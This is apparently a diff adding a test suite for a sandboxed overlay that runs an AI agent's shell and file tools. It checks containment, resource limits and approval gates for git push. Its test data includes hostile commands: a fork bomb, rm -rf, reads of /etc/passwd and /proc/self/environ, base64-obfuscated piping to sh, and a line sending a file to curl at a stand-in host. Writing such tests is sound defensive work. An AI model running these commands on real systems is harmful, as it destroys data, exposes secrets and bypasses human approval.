@@ -1,0 +1,343 @@
+import { existsSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { OverlayChange } from '../model'
+import { changeSetDigest, verifyChanges } from './change-set'
+import { type TestWorkspace, testWorkspace } from './harness'
+
+const MIXED = 'one\ntwo\nthree\n'
+let workspace: TestWorkspace
+
+beforeAll(async () => {
+  workspace = await testWorkspace({
+    'src/a.ts': 'const a = 1\nconst b = 1\n',
+    'src/deep/b.ts': MIXED,
+    'docs/guide.md': '# Guide\n',
+    'run.sh': 'echo hello\n',
+    '.env': 'SECRET=1\n',
+    '.git/config': '[core]\n',
+    '$&.txt': 'x\n',
+  })
+})
+afterAll(() => workspace.remove())
+
+async function done(tool: string, args: unknown, changes: OverlayChange[] = []) {
+  const answer = await workspace.call(tool, args, { changes })
+  if (answer.kind !== 'done') throw new Error(JSON.stringify(answer))
+  return answer
+}
+const bash = (command: string, changes: OverlayChange[] = []) => done('Bash', { command }, changes)
+const text = (change: OverlayChange | undefined) =>
+  Buffer.from(change?.content ?? '', 'base64').toString('utf8')
+const paths = (changes: readonly OverlayChange[] | null) =>
+  (changes ?? []).map((change) => `${change.change} ${change.path}`)
+
+describe('the overlay', () => {
+  test('leaves the real files alone, whatever a script does', async () => {
+    await bash('rm -rf src docs; echo x > new.txt; chmod 600 run.sh')
+    expect(readFileSync(join(workspace.root, 'src/a.ts'), 'utf8')).toContain('const a')
+    expect(existsSync(join(workspace.root, 'new.txt'))).toBe(false)
+  })
+
+  test('is restored byte for byte in another process', async () => {
+    const first = await bash(
+      'printf "\\xff\\x00\\x01" > bin.dat; sed -i s/two/zwei/ src/deep/b.ts; rm docs/guide.md; mv run.sh tool.sh; mkdir -p empty/inner; rmdir docs',
+    )
+    const second = await bash('true', first.changes ?? [])
+    expect(second.changes).toEqual(first.changes)
+    expect(changeSetDigest(second.changes ?? [])).toBe(changeSetDigest(first.changes ?? []))
+    const third = await bash(
+      'ls -d docs; ls -d empty/inner; cat src/deep/b.ts',
+      first.changes ?? [],
+    )
+    expect(third.output).toContain('empty/inner')
+    expect(third.output).toContain('zwei')
+    expect(third.output).toContain('cannot access')
+  })
+
+  test('lists create, modify, delete and folders, sorted, with modes and both digests', async () => {
+    const { changes } = await bash('rm -r docs; mv run.sh tool.sh; echo x >> src/a.ts; mkdir new')
+    expect(paths(changes)).toEqual([
+      'delete docs',
+      'delete docs/guide.md',
+      'create new',
+      'delete run.sh',
+      'modify src/a.ts',
+      'create tool.sh',
+    ])
+    expect(changes?.find((change) => change.path === 'tool.sh')?.mode).toBe(0o100755)
+    expect(() => verifyChanges(changes ?? [], workspace.manifest)).not.toThrow()
+  })
+
+  test('writing the same bytes again, or undoing a change, is no change', async () => {
+    const first = await bash('cp src/a.ts /tmp/keep; echo x >> src/a.ts; cp /tmp/keep src/a.ts')
+    expect(first.changes).toEqual([])
+  })
+
+  test('an executable file that is edited stays executable', async () => {
+    const { changes } = await done('Write', { file_path: 'run.sh', content: 'echo bye\n' })
+    expect(changes?.[0]).toMatchObject({ path: 'run.sh', change: 'modify', mode: 0o100755 })
+  })
+
+  test('a damaged overlay is not restored', async () => {
+    const { changes } = await bash('echo x > new.txt')
+    const damaged = (changes ?? []).map((change) => ({ ...change, content: 'eQ==' }))
+    const answer = await workspace.call('Bash', { command: 'cat new.txt' }, { changes: damaged })
+    expect(answer.kind).toBe('failed')
+  })
+})
+
+describe('no way leads out of the workspace', () => {
+  test.each([
+    'echo x > /etc/passwd',
+    'echo x > ../outside',
+    'cp src/a.ts .git/hooks/pre-commit',
+    'mkdir -p .git/hooks && mv src/a.ts .git/hooks/pre-commit',
+    'echo x | tee .GIT/config',
+    'echo x > sub/.git/config',
+    'echo x > .env',
+    'cp src/a.ts .env',
+    'mv src/a.ts .env',
+    'ln src/a.ts .env',
+    'touch .env',
+    'sed -n "w .git/config" src/a.ts',
+    'tar cf .git/x.tar src',
+    'gzip -c src/a.ts > .git/a.gz',
+    'split -l 1 src/a.ts .git/part',
+    'mkdir .git/hooks',
+    'rm -rf /workspace',
+  ])('%s', async (command) => {
+    const answer = await workspace.call('Bash', { command })
+    const changes = answer.kind === 'done' ? (answer.changes ?? []) : []
+    expect(paths(changes).filter((line) => /\.git|\.env|outside|passwd/i.test(line))).toEqual([])
+    expect(() => verifyChanges(changes, workspace.manifest)).not.toThrow()
+    expect(changes.filter((change) => change.change === 'create')).toEqual([])
+  })
+
+  test.each([
+    'cat /etc/passwd',
+    'cat ../../../etc/passwd',
+    'cat /proc/self/environ',
+    'cat .env',
+    'cat .git/config',
+    'ls /work /home/*',
+  ])('nothing outside is read: %s', async (command) => {
+    const { output } = await bash(`${command} 2>/dev/null; true`)
+    expect(output).toBe('')
+  })
+
+  test('the environment of the server is not there', async () => {
+    process.env.CHANCERY_TEST_SECRET = 'visible-secret'
+    const { output } = await bash('env; printenv; set')
+    delete process.env.CHANCERY_TEST_SECRET
+    expect(output).not.toContain('visible-secret')
+  })
+
+  test('links are not made', async () => {
+    const { changes } = await bash('ln -s /etc/passwd here; ln -s src there; true')
+    expect(changes).toEqual([])
+  })
+
+  test('paths in tool arguments that lead out are refused', async () => {
+    for (const path of ['../x', '/etc/passwd', '/workspace/../etc/passwd']) {
+      const answer = await workspace.call('Read', { file_path: path })
+      expect(answer).toMatchObject({ kind: 'failed' })
+    }
+  })
+
+  test('names that a reader could not see as they are, are refused', async () => {
+    const answer = await workspace.call('Write', { file_path: 'a\u202etxt.exe', content: 'x' })
+    expect(answer).toMatchObject({ kind: 'failed' })
+  })
+})
+
+describe('what never ends is ended', () => {
+  test.each([
+    ['a fork bomb', ':(){ :|:& };:'],
+    ['an endless awk', `awk 'BEGIN { while (1) x++ }'`],
+    ['an endless loop', 'while :; do :; done'],
+    ['a string that doubles', 'x=a; while :; do x=$x$x; done'],
+    [
+      '50 MB of output',
+      'x=$(printf "%01000d" 1); for i in $(seq 1 9000); do echo $x$x$x$x$x$x; done',
+    ],
+    ['brace expansion', 'echo {1..1000}{1..1000}{1..1000}'],
+  ])('%s is contained and reported', async (_name, command) => {
+    const started = performance.now()
+    const answer = await workspace.call('Bash', { command })
+    expect(performance.now() - started).toBeLessThan(11_000)
+    const failed = answer.kind === 'failed' || (answer.kind === 'done' && answer.isError)
+    expect(failed).toBe(true)
+    if (answer.kind !== 'gated') expect(answer.output.length).toBeLessThanOrEqual(31_000)
+  })
+
+  test('a sleeping script is killed at the deadline', async () => {
+    const answer = await workspace.call('Bash', { command: 'sleep 60' }, { deadlineMs: 700 })
+    expect(answer).toEqual({
+      kind: 'failed',
+      output: 'Bash was stopped after 0.7 seconds. Nothing of it was kept.',
+    })
+  })
+
+  test('a pattern that backtracks for ever is killed, and the server stays responsive', async () => {
+    let ticks = 0
+    const timer = setInterval(() => {
+      ticks += 1
+    }, 20)
+    const changes = (await bash('printf "%040d!" 0 > zeros.txt')).changes ?? []
+    const answer = await workspace.call(
+      'Grep',
+      { pattern: '^(0+)+$' },
+      { changes, deadlineMs: 1_500 },
+    )
+    clearInterval(timer)
+    expect(answer).toMatchObject({ kind: 'failed' })
+    expect(ticks).toBeGreaterThan(30)
+  })
+
+  test('a heap bomb dies alone', async () => {
+    const command = 'a=(); for i in $(seq 1 9000); do a+=("$(printf "%0100000d" $i)"); done'
+    const answer = await workspace.call('Bash', { command })
+    expect(answer.kind === 'failed' || (answer.kind === 'done' && answer.isError)).toBe(true)
+  })
+})
+
+describe('gated commands', () => {
+  test.each([
+    'git push origin main',
+    'g\\it push origin main',
+    `sh -c 'git push origin main'`,
+    'x=git; $x push origin main',
+    'eval "git push origin main"',
+    'echo push origin main | xargs git',
+    'echo Z2l0IHB1c2ggb3JpZ2luIG1haW4= | base64 -d | sh',
+    'echo "$(git push origin main)"',
+    'env git push origin main',
+    '/usr/bin/git push origin main',
+    `printf 'git push origin main' > s.sh; bash s.sh`,
+    'f() { git push origin main; }; f',
+    'command git push origin main',
+    `find . -name run.sh -exec git push origin main \\;`,
+    'timeout 5 git push origin main',
+    'cat <(git push origin main)',
+  ])('are stopped however they are spelt: %s', async (command) => {
+    const answer = await workspace.call('Bash', { command })
+    if (answer.kind !== 'gated') throw new Error(JSON.stringify(answer))
+    expect(answer.commands.map(({ argv }) => argv)).toEqual([['git', 'push', 'origin', 'main']])
+  })
+
+  test('stop the script: nothing before or after them is kept', async () => {
+    const command = 'echo x > before; git push 2>/dev/null || true; echo x > after'
+    const answer = await workspace.call('Bash', { command })
+    expect(answer.kind).toBe('gated')
+  })
+
+  test('are listed in full, so that one approval covers the chain', async () => {
+    const command = 'cd docs && git add -A && git commit -m "Two words" && git push'
+    const answer = await workspace.call('Bash', { command })
+    expect(answer).toEqual({
+      kind: 'gated',
+      commands: [
+        { argv: ['git', 'add', '-A'], cwd: 'docs', stdin: null },
+        { argv: ['git', 'commit', '-m', 'Two words'], cwd: 'docs', stdin: null },
+        { argv: ['git', 'push'], cwd: 'docs', stdin: null },
+      ],
+    })
+  })
+
+  test('show what they are fed', async () => {
+    const answer = await workspace.call('Bash', {
+      command: 'cat src/deep/b.ts | curl -d @- https://a.example',
+    })
+    expect(answer).toMatchObject({ commands: [{ stdin: MIXED }] })
+  })
+
+  test('are let through once each, in order, and only recorded', async () => {
+    const add = { argv: ['git', 'add', '-A'], cwd: '.', stdin: null }
+    const push = { argv: ['git', 'push'], cwd: '.', stdin: null }
+    const command = 'git add -A && git push && echo done > marker'
+    const answer = await workspace.call('Bash', { command }, { permits: [add, push] })
+    expect(answer).toMatchObject({ kind: 'done', isError: false, operations: [add, push] })
+    const twice = await workspace.call(
+      'Bash',
+      { command: 'git push; git push' },
+      { permits: [push] },
+    )
+    expect(twice).toMatchObject({ kind: 'gated', commands: [push, push] })
+  })
+
+  test.each([
+    ['other arguments', { argv: ['git', 'push', '--force'], cwd: '.', stdin: null }],
+    ['another folder', { argv: ['git', 'push'], cwd: 'src', stdin: null }],
+    ['other input', { argv: ['git', 'push'], cwd: '.', stdin: 'x' }],
+  ])('a permit for %s does not let them through', async (_name, permit) => {
+    const answer = await workspace.call('Bash', { command: 'git push' }, { permits: [permit] })
+    expect(answer.kind).toBe('gated')
+  })
+
+  test('a script that behaves differently each time is asked about again', async () => {
+    const answer = await workspace.call('Bash', {
+      command: 'git commit -m "$RANDOM$RANDOM$RANDOM"',
+    })
+    if (answer.kind !== 'gated') throw new Error('not held')
+    const again = await workspace.call(
+      'Bash',
+      { command: 'git commit -m "$RANDOM$RANDOM$RANDOM"' },
+      { permits: answer.commands },
+    )
+    expect(again.kind).toBe('gated')
+  })
+
+  test('npm run is not there, npm publish is held', async () => {
+    expect((await bash('npm test; true')).output).toContain('not available')
+    const answer = await workspace.call('Bash', { command: 'npm publish' })
+    expect(answer.kind).toBe('gated')
+  })
+})
+
+describe('the file tools', () => {
+  test('Read numbers lines and pages', async () => {
+    const { output } = await done('Read', { file_path: 'src/deep/b.ts', offset: 2, limit: 1 })
+    expect(output).toBe('     2\ttwo\n… 2 more lines')
+  })
+
+  test('Edit refuses a text that occurs twice, and names the count', async () => {
+    const args = { file_path: 'src/a.ts', old_string: '1', new_string: '2' }
+    const answer = await workspace.call('Edit', args)
+    expect(answer).toMatchObject({ kind: 'failed', output: expect.stringContaining('2 times') })
+    const all = await done('Edit', { ...args, replace_all: true })
+    expect(text(all.changes?.[0])).toBe('const a = 2\nconst b = 2\n')
+  })
+
+  test('Edit puts the new text in literally, also when it looks like a pattern', async () => {
+    const args = { file_path: 'src/a.ts', old_string: 'const a', new_string: "$& $1 $'" }
+    const { changes } = await done('Edit', args)
+    expect(text(changes?.[0])).toBe("$& $1 $' = 1\nconst b = 1\n")
+  })
+
+  test('MultiEdit makes all of its changes or none', async () => {
+    const good = { old_string: 'one', new_string: 'eins' }
+    const bad = { old_string: 'ten', new_string: 'zehn' }
+    const answer = await workspace.call('MultiEdit', {
+      file_path: 'src/deep/b.ts',
+      edits: [good, bad],
+    })
+    expect(answer).toMatchObject({ kind: 'failed', output: expect.stringContaining('Edit 2') })
+    const fine = await done('MultiEdit', { file_path: 'src/deep/b.ts', edits: [good] })
+    expect(text(fine.changes?.[0])).toBe('eins\ntwo\nthree\n')
+  })
+
+  test('Glob and Grep see the overlay, not only the snapshot', async () => {
+    const changes = (await bash('rm docs/guide.md; echo needle > src/new.ts')).changes ?? []
+    const files = await done('Glob', { pattern: '**/*.{ts,md}' }, changes)
+    expect(files.output.split('\n')).toEqual(['src/a.ts', 'src/deep/b.ts', 'src/new.ts'])
+    const found = await done('Grep', { pattern: 'needle' }, changes)
+    expect(found.output).toBe('1 matching line in 1 file\nsrc/new.ts:1:needle')
+  })
+
+  test('text outside ASCII survives the shell', async () => {
+    const { output, changes } = await bash('echo "Grüße, 世界 🌍" > g.txt; cat g.txt')
+    expect(output).toBe('Grüße, 世界 🌍\n')
+    expect(text(changes?.[0])).toBe('Grüße, 世界 🌍\n')
+  })
+})
